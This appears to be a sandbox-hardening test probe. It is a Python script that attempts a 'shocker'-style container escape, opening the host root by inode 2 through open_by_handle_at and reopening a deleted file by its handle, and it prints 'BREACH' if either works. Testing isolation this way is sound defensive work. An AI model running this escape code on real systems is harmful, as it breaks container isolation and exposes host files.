# attack: opens inode 2, the root of the host's file system, by its number (as "shocker" did); else a file without a path
# guards: seccomp/handles, mount/small-root
# breaks: seccomp/handles + identity/capabilities
# expect: SV syscall:open_by_handle_at
import ctypes
import os
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)
name_to_handle_at, open_by_handle_at = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
handle = struct.pack("IiII", 8, 1, 2, 0)
root = libc.syscall(open_by_handle_at, os.open(os.path.dirname(os.__file__), os.O_RDONLY), handle, os.O_RDONLY)
if root != -1:
    names = os.listdir(root)
    if "etc" in names:
        print("BREACH reached the host's root", sorted(names))
        raise SystemExit
# A deleted file that another process still has open: no path leads to it.
file = os.open("/tmp/secret", os.O_CREAT | os.O_RDWR)
os.write(file, b"answers")
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
libc.syscall(name_to_handle_at, -100, b"/tmp/secret", handle, ctypes.byref(ctypes.c_int()), 0)
os.unlink("/tmp/secret")
child = os.fork()
if child == 0:
    signal.pause()
os.close(file)
opened = libc.syscall(open_by_handle_at, os.open("/tmp", os.O_RDONLY), handle, os.O_RDONLY)
error = ctypes.get_errno()
found = os.pread(opened, 7, 0) if opened != -1 else b""
os.kill(child, signal.SIGKILL)
print("BREACH opened a file by its number" if found == b"answers" else f"held: errno {error}")
